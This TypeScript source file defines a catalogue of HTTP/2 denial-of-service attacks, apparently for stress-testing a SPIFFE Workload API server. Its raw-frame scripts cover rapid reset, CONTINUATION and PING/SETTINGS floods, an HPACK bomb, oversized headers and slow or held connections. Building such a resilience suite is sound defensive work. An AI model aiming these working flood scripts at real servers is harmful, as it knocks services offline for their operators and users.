/** The attacks, one each: what a caller can do to a server that speaks HTTP/2, from the CVEs of the last years on. */
import { Burst } from './burst.ts';
import {
  callBlocks,
  emptyMessage,
  field,
  flag,
  frame,
  indexed,
  preface,
  setting,
  settings,
  type,
  uint32,
} from './frames.ts';
import type { Counts, Style } from './hostile.ts';

interface AnyAttack {
  readonly name: string;
  readonly what: string;
  readonly connections: number;
  /** The attacker is owed an identity; else it is a stranger. */
  readonly entitled?: true;
  /** In a whole run it goes on until it has come so far. */
  readonly until?: Partial<Counts>;
  /** What the server serves changes all the time, so that there is always something new to send. */
  readonly changes?: true;
}

/** In raw frames. */
export interface HostileAttack extends AnyAttack, Style {}

/** By h2load, with these options. */
export interface ForeignAttack extends AnyAttack {
  readonly h2load: readonly string[];
}

export type Attack = HostileAttack | ForeignAttack;

type Script = Style['script'];

const blocks = callBlocks('/SpiffeWorkloadAPI/FetchX509SVID');
const greeting = Buffer.concat([preface, settings()]);
const opening = frame(type.headers, flag.endHeaders, 0, blocks.next);
const message = frame(type.data, flag.endStream, 0, emptyMessage);
const cancel = frame(type.reset, 0, 0, uint32(8));
const call = [opening, message];
const times = (count: number, bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));

/** As any client would begin: one call that is left open, whose header block fills the connection's table. */
const opened = Buffer.concat([greeting, frame(type.headers, flag.endHeaders, 1, blocks.first)]);

/** Says `bytes` and nothing more. */
const once = (...bytes: readonly Buffer[]): Script =>
  function* () {
    yield Buffer.concat(bytes);
  };

/** After an opening, `bytes` for ever. */
const endlessly = (...bytes: readonly Buffer[]): Script =>
  function* () {
    yield opened;
    for (const more = times(200, Buffer.concat(bytes)); ; ) yield more;
  };

/** The frames of a call without end, each time on a new stream, and without waiting for anything. */
const streams = (...parts: readonly Buffer[]): Script =>
  function* () {
    yield opened;
    const burst = new Burst(parts, 100);
    for (let first = 3; ; first += 200) yield burst.from(first);
  };

/** The same, and never more than `atOnce` of them open. */
const paced = (atOnce: number, ...parts: readonly Buffer[]): Script =>
  function* (talk) {
    yield opened;
    const burst = new Burst(parts, 10);
    for (let made = 0; ; made += 10) {
      while (made - talk.ended > atOnce - 10) yield 'wait';
      yield burst.from(3 + 2 * made);
    }
  };

/** `count` calls and then silence. */
const held = (count: number, first: Buffer, ...parts: readonly Buffer[]): Script =>
  once(first, new Burst(parts, count).from(3));

/** A header block cut into frames as large as they may be. */
function cut(block: Buffer, stream = 3): Buffer {
  const size = 16_384;
  const pieces = Array.from({ length: Math.ceil(block.length / size) }, (_, at) =>
    block.subarray(at * size, (at + 1) * size),
  );
  return Buffer.concat(
    pieces.map((piece, at) =>
      frame(at === 0 ? type.headers : type.continuation, at === pieces.length - 1 ? flag.endHeaders : 0, stream, piece),
    ),
  );
}
const bomb = Buffer.concat([blocks.next, field('x', 'x'.repeat(4000), true), times(48_000, indexed(62))]);
const mebibyte = Buffer.concat([blocks.next, times(256, field('x', 'x'.repeat(4080)))]);

const noWindow = Buffer.concat([
  preface,
  settings([setting.initialWindowSize, 0]),
  frame(type.headers, flag.endHeaders, 1, blocks.first),
]);
const reading = { reads: true, againAfterMs: 1 } as const;
const deaf = { reads: false, againAfterMs: 1 } as const;
const silent = { reads: true } as const;

export const attacks: readonly Attack[] = [
  {
    name: 'stranger calls',
    what: 'calls without end, 90 open on each connection',
    connections: 8,
    ...reading,
    script: paced(90, ...call),
  },
  {
    name: 'a million calls',
    what: '1,000,000 calls by a stranger over 8 connections',
    connections: 8,
    until: { ended: 1_000_000 },
    ...reading,
    script: paced(90, ...call),
  },
  {
    name: 'stranger burst',
    what: 'calls without end, however many are open',
    connections: 8,
    ...reading,
    script: streams(...call),
  },
  {
    name: 'entitled burst',
    what: 'the same from a caller with an identity',
    connections: 8,
    entitled: true,
    ...reading,
    script: streams(...call),
  },
  { name: 'rapid reset', what: 'HEADERS, RST_STREAM', connections: 8, ...reading, script: streams(opening, cancel) },
  {
    name: 'reset after request',
    what: 'a whole request, RST_STREAM',
    connections: 8,
    entitled: true,
    ...reading,
    script: streams(...call, cancel),
  },
  {
    name: 'made you reset: window',
    what: 'WINDOW_UPDATE beyond 2^31',
    connections: 8,
    ...reading,
    script: streams(opening, frame(type.windowUpdate, 0, 0, uint32(0x7fffffff))),
  },
  {
    name: 'made you reset: zero',
    what: 'WINDOW_UPDATE of nothing',
    connections: 8,
    ...reading,
    script: streams(opening, frame(type.windowUpdate, 0, 0, uint32(0))),
  },
  {
    name: 'made you reset: priority',
    what: 'PRIORITY of four bytes',
    connections: 8,
    ...reading,
    script: streams(opening, frame(type.priority, 0, 0, uint32(0))),
  },
  {
    name: 'made you reset: data',
    what: 'DATA after the end',
    connections: 8,
    ...reading,
    script: streams(...call, message),
  },
  {
    name: 'PING flood',
    what: 'PING without end',
    connections: 4,
    ...reading,
    script: endlessly(frame(type.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'PING flood, deaf',
    what: 'PING without end, answers never read',
    connections: 4,
    ...deaf,
    script: endlessly(frame(type.ping, 0, 0, Buffer.alloc(8))),
  },
  { name: 'SETTINGS flood', what: 'SETTINGS without end', connections: 4, ...reading, script: endlessly(settings()) },
  {
    name: 'SETTINGS flood, deaf',
    what: 'SETTINGS without end, answers never read',
    connections: 4,
    ...deaf,
    script: endlessly(settings([setting.initialWindowSize, 65_535])),
  },
  {
    name: 'PRIORITY flood',
    what: 'PRIORITY without end',
    connections: 4,
    ...reading,
    script: endlessly(frame(type.priority, 0, 1, Buffer.alloc(5))),
  },
  {
    name: 'WINDOW_UPDATE flood',
    what: 'the window grown by one byte, without end',
    connections: 4,
    ...reading,
    script: endlessly(frame(type.windowUpdate, 0, 0, uint32(1))),
  },
  {
    name: 'empty DATA flood',
    what: 'DATA of nothing, without end',
    connections: 4,
    ...reading,
    script: endlessly(frame(type.data, 0, 1)),
  },
  {
    name: 'unknown frames',
    what: 'frames of a type that nobody knows',
    connections: 4,
    ...reading,
    script: endlessly(frame(0x42, 0, 0)),
  },
  {
    name: 'CONTINUATION flood',
    what: 'a header block that never ends',
    connections: 4,
    ...reading,
    script: function* () {
      yield Buffer.concat([opened, frame(type.headers, 0, 3, blocks.next)]);
      for (const more = times(200, frame(type.continuation, 0, 3)); ; ) yield more;
    },
  },
  {
    name: '1 MiB headers',
    what: 'header blocks of a mebibyte',
    connections: 8,
    ...reading,
    script: () => once(opened, cut(mebibyte))({ ended: 0 }),
  },
  {
    name: 'HPACK bomb',
    what: 'each 48 KiB unpack to 190 MiB of headers',
    connections: 8,
    ...reading,
    script: function* () {
      yield opened;
      for (let stream = 3; ; stream += 2) yield cut(bomb, stream);
    },
  },
  {
    name: 'declared 4 GiB',
    what: 'messages that promise 4 GiB',
    connections: 8,
    ...reading,
    script: paced(90, opening, frame(type.data, 0, 0, Buffer.from([0, 255, 255, 255, 255]))),
  },
  {
    name: 'unfinished requests',
    what: '5,000 requests that stop in the middle',
    connections: 50,
    ...silent,
    script: held(99, opened, opening, frame(type.data, 0, 0, Buffer.from([0, 0, 0, 255, 0, 1]))),
  },
  {
    name: 'zero windows',
    what: '2,000 streams that let nothing through',
    connections: 20,
    entitled: true,
    changes: true,
    ...silent,
    script: held(99, noWindow, ...call),
  },
  {
    name: 'slow streams',
    what: '10,000 streams that never read',
    connections: 101,
    entitled: true,
    changes: true,
    reads: false,
    script: held(99, opened, ...call),
  },
  { name: 'half open', what: '500 connections that say nothing', connections: 500, ...silent, script: once() },
  { name: 'idle', what: '500 connections that only greet', connections: 500, ...silent, script: once(greeting) },
  {
    name: 'unfinished headers',
    what: '500 connections that stop inside a header block',
    connections: 500,
    ...silent,
    script: once(greeting, frame(type.headers, 0, 1, blocks.first)),
  },
  {
    name: 'connection storm',
    what: 'connections made and dropped',
    connections: 200,
    ...reading,
    againAfterMs: 0,
    hangsUpWithinMs: 2,
    script: once(),
  },
  {
    name: 'sudden deaths',
    what: 'connections that die at random points of many calls',
    connections: 100,
    entitled: true,
    ...reading,
    hangsUpWithinMs: 50,
    script: paced(90, ...call),
  },
  { name: 'h2load, stranger', what: '100 calls at a time on each connection', connections: 8, h2load: ['-m', '100'] },
  {
    name: 'h2load, entitled',
    what: 'the same with an identity',
    connections: 8,
    entitled: true,
    h2load: ['-m', '100'],
  },
  { name: 'h2load, wide', what: '1,000 connections, a call on each', connections: 1_000, h2load: ['-m', '1'] },
];
